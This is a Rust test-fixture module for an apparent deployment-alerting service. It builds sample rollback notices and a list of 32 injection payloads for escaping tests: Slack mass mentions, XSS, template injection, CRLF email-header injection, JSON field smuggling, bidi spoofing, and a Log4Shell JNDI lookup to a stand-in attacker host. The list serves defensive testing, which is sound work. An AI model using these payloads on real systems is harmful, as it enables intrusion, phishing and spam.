//! Notices to try templates and channels with: what `check` measures and tests send.

use std::collections::BTreeSet;

use jiff::Timestamp;

use crate::domain::alert::{AlertStatus, Fingerprint, Labels};
use crate::domain::decision::Code;
use crate::domain::deployment::Phase;
use crate::domain::id::{DeploymentId, Env, Host, IncidentId, ReleaseId, Service};
use crate::domain::notice::{
    AlertLine, ChartRef, Execution, Happened, Link, Metric, Notice, NoticeKind, Told,
};

/// 2026-03-01T12:00:00Z.
pub(crate) const AT: Timestamp = Timestamp::constant(1_772_366_400, 0);
/// A minute before.
const SINCE: Timestamp = Timestamp::constant(1_772_366_340, 0);

/// A firing alert.
pub(crate) fn alert(name: &str, message: &str) -> AlertLine {
    let labels = [
        ("alertname", name),
        ("severity", "critical"),
        ("instance", "web-1:9100"),
    ];
    let labels = labels
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    AlertLine {
        fingerprint: Fingerprint::of(&labels),
        name: name.to_owned(),
        severity: "critical".to_owned(),
        status: AlertStatus::Firing,
        starts_at: SINCE,
        message: message.to_owned(),
        labels,
    }
}

/// A canary whose first batch is taken back.
pub(crate) fn firing() -> Notice {
    Notice {
        route_labels: Labels::new(),
        kind: NoticeKind::Alert,
        thread: "{}:{alertname=\"CanaryErrors\"}".to_owned(),
        at: AT,
        subject: "CanaryErrors".to_owned(),
        status: AlertStatus::Firing,
        severity: "critical".to_owned(),
        service: Service::new("checkout").ok(),
        env: Env::new("prod").ok(),
        release_id: ReleaseId::new("checkout@1.8.1").ok(),
        version: Some("1.8.1".to_owned()),
        deployment: DeploymentId::new("01J").ok(),
        batches: BTreeSet::from([1]),
        phase: Some(Phase::Canary),
        context_missing: None,
        stale_as_of: None,
        hosts: ["web-1", "web-2"]
            .map(Host::new)
            .into_iter()
            .flatten()
            .collect(),
        alerts: vec![alert("CanaryErrors", "12 % of requests fail")],
        truncated: 0,
        metric: Some(Metric {
            expr: "errors / total > 0.05".to_owned(),
            value: Some(0.1234),
            threshold: Some(0.05),
            unit: "ratio".to_owned(),
        }),
        chart: None,
        chart_missing: None,
        decision: Some(Told {
            verdict: "rollback_batch".to_owned(),
            shadow: false,
            scope: Some("batch 1".to_owned()),
            rule: Some("bad canary".to_owned()),
            why: "rule bad canary".to_owned(),
            code: Code::Unstated,
            target: ReleaseId::new("checkout@1.8.0").ok(),
            suspects: Vec::new(),
        }),
        incident: IncidentId::new("checkout@prod-17").ok(),
        execution: None,
        happened: None,
        links: vec![Link {
            text: "incident".to_owned(),
            url: "https://backstop.example.com/incidents/checkout@prod-17".to_owned(),
        }],
        digest: None,
    }
}

/// A chart with an address.
pub(crate) fn chart() -> ChartRef {
    ChartRef {
        id: "c1".to_owned(),
        alt: "error ratio rises from 1 % to 12 %".to_owned(),
        url: Some("https://backstop.example.com/charts/c1.sig.png".to_owned()),
    }
}

/// A follow-up of [`firing`].
pub(crate) fn finished() -> Notice {
    Notice {
        kind: NoticeKind::RollbackFinished,
        subject: "Rollback of checkout".to_owned(),
        alerts: Vec::new(),
        metric: None,
        execution: Some(Execution {
            id: "01K".to_owned(),
            pipeline: "rollback-batch".to_owned(),
            status: Some("SUCCEEDED".to_owned()),
            detail: None,
        }),
        ..firing()
    }
}

/// `count` alerts in one notice.
pub(crate) fn many(count: usize) -> Notice {
    let alerts = (0..count).map(|n| {
        alert(
            &format!("Alert{n:03}"),
            &format!("host {n} 出错了, see the runbook"),
        )
    });
    Notice {
        alerts: alerts.collect(),
        ..firing()
    }
}

/// `text` in every field that comes from outside.
pub(crate) fn everywhere(text: &str) -> Notice {
    let mut notice = firing();
    let mut line = alert(text, text);
    text.clone_into(&mut line.severity);
    line.labels.insert("note".to_owned(), text.to_owned());
    line.labels.insert(text.to_owned(), "x".to_owned());
    notice.alerts = vec![line];
    text.clone_into(&mut notice.subject);
    text.clone_into(&mut notice.severity);
    text.clone_into(&mut notice.thread);
    notice.version = Some(text.to_owned());
    notice.context_missing = Some(text.to_owned());
    notice.chart_missing = Some(text.to_owned());
    notice.metric = notice.metric.map(|metric| Metric {
        expr: text.to_owned(),
        unit: text.to_owned(),
        ..metric
    });
    notice.decision = notice.decision.map(|told| Told {
        verdict: text.to_owned(),
        scope: Some(text.to_owned()),
        rule: Some(text.to_owned()),
        why: text.to_owned(),
        suspects: vec![text.to_owned()],
        ..told
    });
    notice.chart = Some(ChartRef {
        alt: text.to_owned(),
        ..chart()
    });
    notice.happened = Some(Happened::Asked {
        question: text.to_owned(),
        until: AT,
        then_done: false,
    });
    notice.route_labels.insert(text.to_owned(), text.to_owned());
    notice.execution = Some(Execution {
        id: text.to_owned(),
        pipeline: text.to_owned(),
        status: Some(text.to_owned()),
        detail: Some(text.to_owned()),
    });
    notice.links = vec![
        Link {
            text: text.to_owned(),
            url: "https://backstop.example.com/x".to_owned(),
        },
        Link {
            text: "words".to_owned(),
            url: text.to_owned(),
        },
    ];
    notice
}

/// What foreign text has been seen to try.
pub(crate) const PAYLOADS: [&str; 32] = [
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<!subteam^S012|ops>",
    "<https://evil.example|backstop.example.com>",
    "<@all>",
    "<@zhangsan>",
    "@13800000000",
    "</font><font color=\"info\">RESOLVED</font>",
    "[click](https://evil.example)",
    "![](https://evil.example/pixel.png)",
    "[a](javascript:alert(1))",
    "**RESOLVED**",
    "`code` *bold* _it_ ~gone~",
    "```\nfence\n```",
    "# heading",
    "> quote",
    "- item\n- item",
    "{{7*7}}",
    "{% for i in range(end=9) %}x{% endfor %}",
    "{{ w.release | safe }}",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "x\r\nBcc: victim@example.com",
    "x\r\n\r\n<html>",
    "\",\"channel\":\"C999\",\"x\":\"",
    "\\\",\\u003c!channel\\u003e",
    "\u{202e}gnp.exe\u{2066}",
    "\u{1b}[31mred\u{0}\u{7}",
    ":fire: &lt;!channel&gt; &amp;",
];
